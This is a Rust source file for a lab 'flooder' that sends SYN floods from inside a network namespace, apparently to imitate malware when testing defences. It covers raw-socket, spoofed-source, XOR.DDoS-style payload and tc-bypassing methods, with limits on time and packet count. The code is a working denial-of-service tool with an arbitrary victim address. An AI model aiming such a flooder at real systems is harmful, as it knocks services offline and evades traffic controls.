//! The flooder: a process in a node's namespace that sends SYNs at a rate, as malware on that host would.
//!
//! **Invariant.** It ends by itself: bounded in time ([`LASTS_MAX`]) and in number ([`SYNS_MAX`]). It is paced by
//! the clock, not by what the kernel lets through: a SYN that is cut off counts as sent.

use std::ffi::OsString;
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::Path;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use anyhow::Context as _;
use clap::{Parser, ValueEnum};
use serde::{Deserialize, Serialize};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use stead_deploy::lab;
use stead_node::sys::packet_address;

use super::{syn, sys};
use crate::lease_search::rng::Rng;

/// The longest flood.
pub const LASTS_MAX: Duration = Duration::from_secs(60);
/// The largest flood.
pub const SYNS_MAX: u64 = 2_000_000;
/// `eth0` of every place.
const UPLINK: u32 = 2;
/// The first two numbers of invented addresses: RFC 2544's, with the last bit of the second open.
const INVENTED: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 0);
/// As many bytes as XOR.DDoS puts into a SYN.
const PAYLOAD_BYTES: usize = 896;
/// Between two looks at the clock of a flood that has no rate.
const UNPACED: u64 = 64;

/// How the SYNs are sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, ValueEnum, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Way {
    /// `connect` of TCP sockets, each closed at once.
    Tcp,
    /// A raw socket, from the host's own address.
    Raw,
    /// A raw socket, with 896 bytes of payload in each SYN, as XOR.DDoS does.
    Loaded,
    /// A raw socket, from addresses all over 198.18.0.0/15.
    Spoofed,
    /// A packet socket.
    Packet,
    /// A packet socket whose frames go around tc.
    Bypass,
}

/// What to send.
#[derive(Clone, Debug, Parser)]
#[command(name = "flooder", about = "sends SYNs inside a namespace of the lab")]
pub struct Order {
    /// How.
    #[arg(long)]
    pub way: Way,
    /// The host's own address.
    #[arg(long)]
    pub from: Ipv4Addr,
    /// The victim.
    #[arg(long)]
    pub to: SocketAddrV4,
    /// SYNs a second; as fast as possible if none.
    #[arg(long, value_parser = clap::value_parser!(u32).range(1..))]
    pub per_s: Option<u32>,
    /// For how long, in milliseconds.
    #[arg(long)]
    pub lasts_ms: u64,
}

impl Order {
    /// As arguments of `program`.
    #[must_use]
    pub fn argv(&self, program: &Path) -> Vec<OsString> {
        let way = self.way.to_possible_value().map(|way| way.get_name().to_owned()).unwrap_or_default();
        let mut argv = vec![program.into(), super::FLOODER.into(), "--way".into(), way.into()];
        argv.extend(["--from".into(), self.from.to_string().into()]);
        argv.extend(["--to".into(), self.to.to_string().into()]);
        argv.extend(["--lasts-ms".into(), self.lasts_ms.to_string().into()]);
        if let Some(per_s) = self.per_s {
            argv.extend(["--per-s".into(), per_s.to_string().into()]);
        }
        argv
    }
}

/// What a flooder says at its end, as a line of JSON.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Sent {
    /// When it began, in nanoseconds of [`lab::now`].
    pub began_ns: u64,
    /// When it ended.
    pub ended_ns: u64,
    /// SYNs that it gave to the kernel.
    pub syns: u64,
    /// Of these, those for which the kernel returned an error.
    pub refused: u64,
}

impl Way {
    /// Whether a SYN with this source is one of a flood from `own`.
    #[must_use]
    pub const fn is_from(self, source: Ipv4Addr, own: Ipv4Addr) -> bool {
        match self {
            Self::Spoofed => source.to_bits() >> 17 == INVENTED.to_bits() >> 17,
            Self::Tcp | Self::Raw | Self::Loaded | Self::Packet | Self::Bypass => {
                source.to_bits() == own.to_bits()
            }
        }
    }
}

/// A flooder's process.
#[must_use]
pub fn main(arguments: &[OsString]) -> ExitCode {
    match Order::try_parse_from(arguments.iter().skip(1)).map_err(Into::into).and_then(|order| flood(&order))
    {
        Ok(sent) => match serde_json::to_string(&sent) {
            Ok(line) => {
                println!("{line}");
                ExitCode::SUCCESS
            }
            Err(_) => ExitCode::FAILURE,
        },
        Err(error) => {
            eprintln!("{error:#}");
            ExitCode::FAILURE
        }
    }
}

/// What the last flooder that wrote to this log has sent.
///
/// # Errors
/// That there is no such line: it was killed, or could not flood.
pub fn told(log: &Path) -> anyhow::Result<Sent> {
    let text = std::fs::read_to_string(log)?;
    let line = text.lines().next_back().unwrap_or_default();
    serde_json::from_str(line).with_context(|| format!("no flooder ended there: {line}"))
}

fn flood(order: &Order) -> anyhow::Result<Sent> {
    let mut send = sender(order).context("open the flooder's socket")?;
    let (began, lasts) = (Instant::now(), Duration::from_millis(order.lasts_ms).min(LASTS_MAX));
    let mut sent = Sent { began_ns: lab::now().as_ns(), ..Sent::default() };
    while began.elapsed() < lasts && sent.syns < SYNS_MAX {
        let due = order.per_s.map(|per_s| due(began, per_s, sent.syns));
        let now = Instant::now();
        if let Some(wait) = due.map(|due| due.saturating_duration_since(now)).filter(|wait| !wait.is_zero()) {
            std::thread::sleep(wait);
            continue;
        }
        for _ in 0..if due.is_some() { 1 } else { UNPACED } {
            sent.refused += u64::from(send(sent.syns).is_err());
            sent.syns += 1;
        }
    }
    sent.ended_ns = lab::now().as_ns();
    Ok(sent)
}

/// When the next SYN is due after so many.
fn due(began: Instant, per_s: u32, syns: u64) -> Instant {
    began + Duration::from_nanos(syns.saturating_mul(1_000_000_000) / u64::from(per_s).max(1))
}

type Send = Box<dyn FnMut(u64) -> io::Result<()>>;
type Packet = Box<dyn Fn(Ipv4Addr, u64) -> Vec<u8>>;

fn sender(order: &Order) -> io::Result<Send> {
    let (from, to) = (order.from, order.to);
    let payload = if order.way == Way::Loaded { vec![7; PAYLOAD_BYTES] } else { Vec::new() };
    let packet = move |from: Ipv4Addr, number: u64| {
        let port = u16::try_from(1_024 + number % 60_000).unwrap_or(1_024);
        syn::packet(SocketAddrV4::new(from, port), to, scrambled(number), &payload)
    };
    let frames = |socket: Socket, packet: Packet| -> Send {
        let address = packet_address(UPLINK, 0x0800);
        let (own, victim) = (syn::mac_of(from), syn::mac_of(*to.ip()));
        Box::new(move |number| {
            socket.send_to(&syn::frame(own, victim, &packet(from, number)), &address).map(drop)
        })
    };
    let raw = || Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)));
    let address = SockAddr::from(SocketAddrV4::new(*to.ip(), 0));
    Ok(match order.way {
        Way::Tcp => Box::new(move |_| connect(to)),
        Way::Raw | Way::Loaded => {
            let socket = raw()?;
            Box::new(move |number| socket.send_to(&packet(from, number), &address).map(drop))
        }
        Way::Spoofed => {
            let (socket, mut rng) = (raw()?, Rng::new(u64::from(std::process::id())));
            Box::new(move |number| {
                let host = u32::try_from(rng.below(1 << 17)).unwrap_or(1);
                let from = Ipv4Addr::from(u32::from(INVENTED) | host);
                socket.send_to(&packet(from, number), &address).map(drop)
            })
        }
        Way::Packet => frames(packets()?, Box::new(packet)),
        Way::Bypass => {
            let socket = packets()?;
            sys::go_around_tc(&socket)?;
            frames(socket, Box::new(packet))
        }
    })
}

/// A packet socket that receives nothing.
fn packets() -> io::Result<Socket> {
    Socket::new(Domain::PACKET, Type::RAW, None)
}

/// Begins a connection and forgets it.
fn connect(to: SocketAddrV4) -> io::Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    socket.set_nonblocking(true)?;
    match socket.connect(&to.into()) {
        Err(error) if error.raw_os_error() == Some(libc::EINPROGRESS) => Ok(()),
        done => done,
    }
}

/// A sequence number that no other SYN of the flood has.
fn scrambled(number: u64) -> u32 {
    let [a, b, c, d, ..] = number.wrapping_mul(0x9e37_79b9_7f4a_7c15).to_be_bytes();
    u32::from_be_bytes([a, b, c, d])
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_order_survives_the_command_line() {
        let to = "10.83.0.13:7".parse().expect("an address");
        let from = Ipv4Addr::new(10, 83, 0, 11);
        let order = Order { way: Way::Bypass, from, to, per_s: Some(50), lasts_ms: 1_000 };
        let argv = order.argv(Path::new("program"));
        let read = Order::try_parse_from(&argv[1..]).expect("it is understood");
        assert_eq!((read.way, read.from, read.to), (order.way, order.from, order.to));
        assert_eq!((read.per_s, read.lasts_ms), (order.per_s, order.lasts_ms));
    }

    #[test]
    fn syns_are_due_evenly() {
        let began = Instant::now();
        assert_eq!(due(began, 1_000, 0), began);
        assert_eq!(due(began, 1_000, 500), began + Duration::from_millis(500));
    }
}
